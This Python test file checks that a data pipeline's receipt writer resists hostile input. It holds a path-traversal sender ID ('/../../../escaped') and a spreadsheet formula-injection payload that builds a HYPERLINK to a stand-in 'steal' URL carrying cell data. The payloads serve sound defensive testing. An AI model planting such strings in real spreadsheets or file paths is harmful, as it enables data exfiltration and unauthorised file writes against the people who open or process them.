"""What hostile values do once loaded: the receipts sent back to senders are built from them.

A sender ID is free text and becomes part of a receipt's file name; a quarantined value is written into
the receipt's cells: neither may escape the receipts folder or become a live formula.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

from orchestration.reports.receipts import write_receipts
from tests.hostile.conftest import ingest, place
from tests.hostile.make_corpus import HEADER, INSURED_HEADER, INSURED_ROWS, PERIOD, ROWS, csv_text


def test_a_sender_id_with_dot_dot_slash_cannot_write_a_receipt_outside_the_folder(tmp_path: Path) -> None:
    raw = tmp_path / "raw"
    row = list(INSURED_ROWS[0])
    row[0] = "/../../../escaped"  # the fund office code is free text, and names the sender (lands in tmp_path)
    (raw / "insured_workforce" / "202506").mkdir(parents=True)
    (raw / "insured_workforce" / "202506" / "bhxh.csv").write_text(csv_text(INSURED_HEADER, [row]), encoding="utf-8")
    ingested = ingest(raw, family="insured_workforce")
    assert ingested.result.outcomes[0].status == "loaded"
    out = tmp_path / "receipts"
    written = write_receipts(ingested.warehouse, "202506", out)
    assert all(p.resolve().is_relative_to(out.resolve()) for p in written), written


def test_a_quarantined_value_that_looks_like_a_formula_stays_text_in_the_receipt(landing: Path) -> None:
    rows = [list(r) for r in ROWS]
    rows[0][4] = '=HYPERLINK("http://example.invalid/steal?"&A1,"Bấm vào đây")'  # an unknown sector code
    place(landing, "formula.csv", csv_text(HEADER, rows).encode())
    ingested = ingest(landing)
    assert ingested.outcome("formula.csv").rows_rejected == 1
    [receipt] = write_receipts(ingested.warehouse, PERIOD, landing.parent / "receipts")
    with zipfile.ZipFile(receipt) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in sheet for sheet in sheets), "a live formula in a file sent back to a sender"

